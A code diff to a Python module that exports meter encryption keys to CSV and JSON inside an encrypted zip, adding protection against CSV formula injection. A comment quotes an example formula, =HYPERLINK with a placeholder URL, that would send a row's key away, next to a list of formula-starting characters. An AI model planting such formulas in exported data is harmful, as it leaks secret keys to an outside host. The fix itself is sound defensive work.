@@ -111,6 +111,12 @@ def _readme(
         lines.append("wmbusmeters/  a wmbusmeters meter file per meter (for /etc/wmbusmeters.d/)")
     lines.append("README.txt    this file")
     lines.append("")
+    lines += [
+        "In keys.csv a value starting with = + - or @ has a ' in front, so that spreadsheet",
+        "programs show it as text instead of running it as a formula. keys.json holds every",
+        "value exactly as stored.",
+        "",
+    ]
     if not meter_files and meters:
         lines += [
             f"The selection holds {meters} meters, more than the {limit} for which wmbusmeters",
@@ -131,14 +137,23 @@ def _readme(
     return "\r\n".join(lines)
 
 
+# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
+# (OWASP "CSV injection"): =HYPERLINK("http://…?"&E2) would send the row's key away.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
 def _csv_cell(value: str) -> str:
-    """A CSV field, quoted only when it must be; letters and digits alone never need it."""
+    """Every keys.csv cell of stored text goes through here: quoted only when it must be, and
+    text a spreadsheet would run as a formula gets a leading apostrophe. Letters and digits
+    alone (serials, most order numbers, key names) need neither."""
     return value if value.isalnum() else _quoted_csv_cell(value)
 
 
 @lru_cache(maxsize=4096)
 def _quoted_csv_cell(value: str) -> str:
-    """Types repeat from row to row: cached."""
+    """The slow path (types repeat from row to row: cached)."""
+    if value.startswith(FORMULA_START):
+        value = "'" + value
     if any(char in value for char in ',"\r\n') or value != value.strip():
         return '"' + value.replace('"', '""') + '"'
     return value
@@ -185,6 +200,7 @@ def _zip_chunks(plain_keys: PlainKeys, password: str, write_meter_files: bool) -
     sink = _ChunkSink()
     count = keys = without_keys = meter_count = 0
     meter_files: list[tuple[str, str]] = []
+    key_name_cells: dict[str, tuple[str, str]] = {}  # a handful of names: CSV and JSON forms
     with (
         tempfile.SpooledTemporaryFile(max_size=8 << 20, mode="w+b") as json_buffer,
         pyzipper.AESZipFile(
@@ -213,9 +229,13 @@ def _zip_chunks(plain_keys: PlainKeys, password: str, write_meter_files: bool) -
                 )
                 key_json = []
                 for name, key in plain.items():
+                    # key_hex is written here from bytes: [0-9A-F] only, never a formula.
                     key_hex = key.hex().upper()
-                    csv_lines.append(f"{serial_csv},{row_middle},{name},{key_hex}\r\n")
-                    key_json.append(f'"{name}": "{key_hex}"')
+                    name_cells = key_name_cells.get(name)
+                    if name_cells is None:
+                        name_cells = key_name_cells[name] = (_csv_cell(name), _json_string(name))
+                    csv_lines.append(f"{serial_csv},{row_middle},{name_cells[0]},{key_hex}\r\n")
+                    key_json.append(f'{name_cells[1]}: "{key_hex}"')
                     keys += 1
                 serial_json = _json_string(serial)
                 json_parts.append(
